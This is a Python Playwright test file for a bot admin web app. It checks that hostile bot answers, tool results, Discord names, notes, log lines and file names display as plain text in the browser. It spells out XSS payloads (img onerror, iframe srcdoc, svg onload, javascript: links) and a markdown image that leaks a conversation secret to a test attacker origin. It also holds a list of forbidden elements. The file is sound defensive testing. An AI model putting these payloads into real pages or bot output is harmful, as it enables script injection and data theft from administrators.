"""Attacker-controlled text in a real browser (issue 17): a bot's answer and a tool's result
from a real chain run in the Test Chat, a Discord name and a note in the Knowledge Base.

Every payload tries to run script (each sets its own ``window.__pwned_*`` flag) or to make
the browser talk to the attacker's server. The admin must see the payload as text, no flag
may be set and no request may leave for anything but the web app, until the admin clicks.
"""

from __future__ import annotations

import logging
import re

import pytest
from playwright.sync_api import expect

from grobot.core.db import session_scope
from grobot.core.services import discord_users, user_notes
from tests.fakes.llm import Reply, use_fake_llm
from tests.helpers import wait_for
from tests.ui.auth import PAGE_TIMEOUT_MS
from tests.ui.chat import add_bot, claim, echo_server, run_real_job, unique

logger = logging.getLogger(__name__)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

LIVE_TIMEOUT_MS = 20_000
PWNED_FLAGS = "() => Object.keys(window).filter((key) => key.startsWith('__pwned'))"
# Elements no untrusted text may ever become.
FORBIDDEN = "iframe, frame, form, style, script, img, input, button, object, embed, svg[onload], a[href^='javascript']"


def answer_payload(attacker: str) -> str:
    """Markdown with every trick of the issue: raw HTML, scripts in SVG and srcdoc, entities,
    ``javascript:`` links, an exfiltrating image."""
    return "\n\n".join([
        "Here is your report.",
        f'<img src="{attacker}/img-onerror" onerror="window.__pwned_img = 1">',
        '<iframe srcdoc="<script>parent.__pwned_iframe = 1</script>"></iframe>',
        f'<form action="{attacker}/form" method="post"><input name="q" value="stolen"><button>Go</button></form>',
        f"<style>body {{ background: url({attacker}/style) }}</style>",
        '<svg onload="window.__pwned_svg = 1"><script>window.__pwned_svg_script = 1</script></svg>',
        "<script>window.__pwned_script = 1</script>",
        "&lt;b&gt;entity&lt;/b&gt; and &#60;i&#62;numeric&#60;/i&#62;",
        "[innocent link](javascript:window.__pwned_js=1) and [entity link](&#106;avascript:window.__pwned_js2=1)",
        '<a href="javascript:window.__pwned_a=1">raw anchor</a>',
        f"![chart]({attacker}/exfil?q=conversation-secret)",
        f"[docs]({attacker}/docs) or write to [us](mailto:ops@example.org)",
    ])


def tool_payload(attacker: str) -> str:
    return f'<img src="{attacker}/tool" onerror="window.__pwned_tool = 1"><script>window.__pwned_tool2 = 1</script>'


def assert_nothing_happened(page, attacker) -> None:
    log = page.grobot_log
    assert page.evaluate(PWNED_FLAGS) == [], "a payload ran script"
    assert log.foreign_requests() == [], "the page made a request outside the web app"
    assert attacker.hits == [], "the attacker's server was reached"


def test_a_hostile_answer_and_tool_result_show_as_text_in_the_test_chat(admin_page, fake_llm, attacker) -> None:
    page = admin_page
    bot_id = add_bot(unique("Parrot"), agent_mode="native")
    use_fake_llm(fake_llm, bot_id=bot_id)
    echo = echo_server(bot_id)
    payload = answer_payload(attacker.origin)
    page.goto(f"/bots/{bot_id}/chat")
    expect(page.get_by_text("Say hello")).to_be_visible(timeout=PAGE_TIMEOUT_MS)

    page.get_by_role("textbox", name="Message").fill("Send me the report")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_test_id("user-message").last).to_have_text("Send me the report", timeout=LIVE_TIMEOUT_MS)
    fake_llm.script(Reply(tool_calls=[{"name": echo, "arguments": {"text": tool_payload(attacker.origin)}}]),
                    Reply(text=payload, chunks=5))
    assert run_real_job(claim(), bot_id) is None

    answer = page.get_by_test_id("bot-answer").last
    expect(answer).to_contain_text("Here is your report.", timeout=LIVE_TIMEOUT_MS)
    expect(answer).to_contain_text("us (mailto:ops@example.org)", timeout=LIVE_TIMEOUT_MS)  # the last line arrived
    check_answer(page, answer, attacker)

    # The tool's result: text in the steps, nothing else.
    steps = answer.get_by_test_id("chain-steps")
    steps.get_by_text(re.compile(r"^Steps \(\d+\)$")).click()
    steps.get_by_text(re.compile(rf"^{echo} answered")).click()
    expect(steps).to_contain_text('onerror="window.__pwned_tool = 1"')
    expect(steps).to_contain_text("<script>window.__pwned_tool2 = 1</script>")
    assert steps.locator(FORBIDDEN).count() == 0
    assert_nothing_happened(page, attacker)

    # The same from the stored history (another rendering path: the finished turns).
    page.reload()
    answer = page.get_by_test_id("bot-answer").last
    expect(answer).to_contain_text("Here is your report.", timeout=PAGE_TIMEOUT_MS)
    check_answer(page, answer, attacker)

    # Links do nothing unsafe when clicked; an image is fetched only when the admin clicks it.
    answer.get_by_text("innocent link", exact=True).click()
    answer.get_by_text("raw anchor", exact=False).click()
    assert_nothing_happened(page, attacker)
    with page.context.expect_page() as popup_info:
        answer.locator("[data-image-link]").click()
    popup = popup_info.value
    wait_for(lambda: "GET /exfil?q=conversation-secret" in attacker.hits, timeout=10, message="the clicked image")
    assert set(attacker.hits) <= {"GET /exfil?q=conversation-secret", "GET /favicon.ico"}  # the popup's icon
    assert popup.evaluate("() => window.opener") is None  # the image's page cannot reach the admin's
    assert page.evaluate(PWNED_FLAGS) == []


def check_answer(page, answer, attacker) -> None:
    """The answer shows every payload as its text, with no live markup, and nothing ran."""
    a = attacker.origin
    for text in (f'<img src="{a}/img-onerror" onerror="window.__pwned_img = 1">',
                 '<iframe srcdoc="<script>parent.__pwned_iframe = 1</script>"></iframe>',
                 f'<form action="{a}/form" method="post">',
                 f"<style>body {{ background: url({a}/style) }}</style>",
                 '<svg onload="window.__pwned_svg = 1"><script>window.__pwned_svg_script = 1</script></svg>',
                 "<script>window.__pwned_script = 1</script>",
                 "<b>entity</b> and <i>numeric</i>",
                 '<a href="javascript:window.__pwned_a=1">raw anchor</a>'):
        expect(answer).to_contain_text(text)
    assert answer.locator(FORBIDDEN).count() == 0, answer.inner_html()
    # Links: only http(s)/mailto, each with its real target in view; the javascript: ones are text.
    hrefs = answer.locator("a").evaluate_all("els => els.map((e) => e.getAttribute('href'))")
    assert sorted(hrefs) == sorted([f"{a}/docs", "mailto:ops@example.org", f"{a}/exfil?q=conversation-secret"])
    for link in answer.locator("a").all():
        assert "noopener" in (link.get_attribute("rel") or "") and "noreferrer" in (link.get_attribute("rel") or "")
    expect(answer).to_contain_text(f"docs ({a}/docs)")
    expect(answer.get_by_text("innocent link", exact=True)).to_be_visible()
    expect(answer).to_contain_text(f"chart (image at {a}/exfil?q=conversation-secret, not loaded: click to open)")
    assert_nothing_happened(page, attacker)


def test_a_hostile_discord_name_and_note_show_as_text_in_the_knowledge_base(admin_page, attacker) -> None:
    page = admin_page
    a = attacker.origin
    bot_id = add_bot(unique("Knower"))
    name = f'<img src="{a}/name" onerror="window.__pwned_name = 1"><b>Eve</b>'
    note = f"<script>window.__pwned_note = 1</script> [x](javascript:window.__pwned_note2=1) ![p]({a}/note.png)"
    with session_scope() as session:
        discord_users.set_directives(session=session, bot_id=bot_id, discord_user_id="6666",
                                     directives=f"<iframe src=\"{a}/directive\"></iframe>", display_name=name)
        user_notes.add_note(session=session, bot_id=bot_id, discord_user_id="6666", note=note, reliability=0.5,
                            source="archivist")
    page.goto(f"/bots/{bot_id}/knowledge")
    user = page.locator('[data-user="6666"]')
    expect(user).to_contain_text(name, timeout=PAGE_TIMEOUT_MS)
    user.click()
    expect(page.locator("[data-note-text]")).to_have_text(note, timeout=LIVE_TIMEOUT_MS)
    expect(page.get_by_role("textbox", name="Directives")).to_have_value(f"<iframe src=\"{a}/directive\"></iframe>")
    expect(page.get_by_role("heading", name=name)).to_be_visible()
    for shown in (user, page.locator("[data-note]"), page.get_by_role("heading", name=name)):
        assert shown.locator(FORBIDDEN.replace("button, ", "")).count() == 0, shown.inner_html()
    assert_nothing_happened(page, attacker)


def test_a_hostile_log_line_and_file_name_show_as_text(admin_page, attacker) -> None:
    """Log lines (a bot logs what Discord and tools send it) and stored file names are text too."""
    from grobot.core.models import LogEntry
    from grobot.core.services import files

    page = admin_page
    a = attacker.origin
    bot_id = add_bot(unique("Logger"))
    line = f'Tool said: <img src="{a}/log" onerror="window.__pwned_log = 1"> [x](javascript:window.__pwned_log2=1)'
    name = "<svg onload=window.__pwned_file=1>.txt"
    with session_scope() as session:
        session.add(LogEntry(bot_id=bot_id, level="WARNING", logger="bot_worker.bot_process", message=line))
        files.write_file(session=session, bot_id=bot_id, path=name, data=b"x")
    page.goto(f"/bots/{bot_id}/logs")
    row = page.get_by_text("Tool said:", exact=False)
    expect(row).to_have_text(line, timeout=PAGE_TIMEOUT_MS)
    assert row.locator(FORBIDDEN).count() == 0
    page.goto(f"/bots/{bot_id}/files")
    shown = page.locator(f'[data-path="{name}"]')
    expect(shown).to_contain_text(name, timeout=PAGE_TIMEOUT_MS)
    assert shown.locator(FORBIDDEN.replace("button, ", "")).count() == 0
    assert_nothing_happened(page, attacker)
